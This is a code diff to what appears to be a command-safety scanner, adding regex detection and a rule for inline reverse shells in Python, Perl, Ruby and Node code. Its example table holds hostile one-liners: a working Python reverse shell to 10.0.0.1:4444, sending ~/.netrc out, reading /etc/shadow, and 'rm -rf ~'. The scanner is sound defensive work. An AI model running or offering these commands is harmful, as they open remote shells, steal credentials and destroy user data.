@@ -35,6 +35,10 @@ SENDS = lazy_re(r"urlopen|urllib|requests\.|http\.client|httpx|aiohttp|socket\.|
 SHELL_CALL = lazy_re(r"""(?:os\.system|os\.popen|subprocess\.\w+|commands\.getoutput|child_process|execSync"""
                      r"""|spawnSync|\bexec\b|\bsystem\b|%x|IO\.popen|Open3\.\w+|pty\.spawn)\s*\(?\s*(?:\[?\s*)?"""
                      r"""(?:'((?:\\.|[^'\\])*)'|"((?:\\.|[^"\\])*)")""")
+# A socket and a shell in one piece of inline code: GTFOBins' python/perl/ruby/php/node reverse shells (the
+# shell's input and output are the socket: dup2, open(STDIN, ">&S"), `<&%d >&%d`, spawn piped to it).
+SOCKET = lazy_re(r"\bsocket\b|TCPSocket|fsockopen|net\.connect|net\.Socket|IO::Socket|\bSocket\b|/dev/tcp/|/inet/")
+SHELL_RUN = lazy_re(r"/bin/(?:ba|da|z|k|c)?sh\b|pty\.spawn|\bsh\s+-i\b|['\"](?:ba|z)?sh['\"]|cmd\.exe|powershell")
 MAX_CODE = 20_000
 
 
@@ -79,8 +83,12 @@ def judge_inline(cmd, code: str, language: str) -> None:
     elif secrets:
         cmd.fired.add("inline.reads-secret")
         cmd.read(secrets[0].path, f"{language} code reads")
+    if sends and SOCKET.search(code) and SHELL_RUN.search(code):
+        cmd.does("backdoor", "inline.reverse-shell", f"{language} code connects a shell to a network socket "
+                                                     "(reverse shell)")
     if sends:
         cmd.facts.net_send = True
+        cmd.facts.net_fetch = True      # what it prints may be what it fetched (`python3 -c 'urlopen…' | sh`)
     for m in SHELL_CALL.finditer(code):
         shell = m.group(1) if m.group(1) is not None else m.group(2)
         if shell and len(shell) < 4000:
@@ -96,4 +104,6 @@ INLINE_EXAMPLES = {
                                  "data=open(os.path.expanduser('~/.netrc'),'rb').read())\""],
     "inline.reads-secret": ["python3 -c \"print(open('/etc/shadow').read())\""],
     "inline.shell": ["python3 -c \"import os; os.system('rm -rf ~')\""],
+    "inline.reverse-shell": ["python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
+                             "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"],
 }
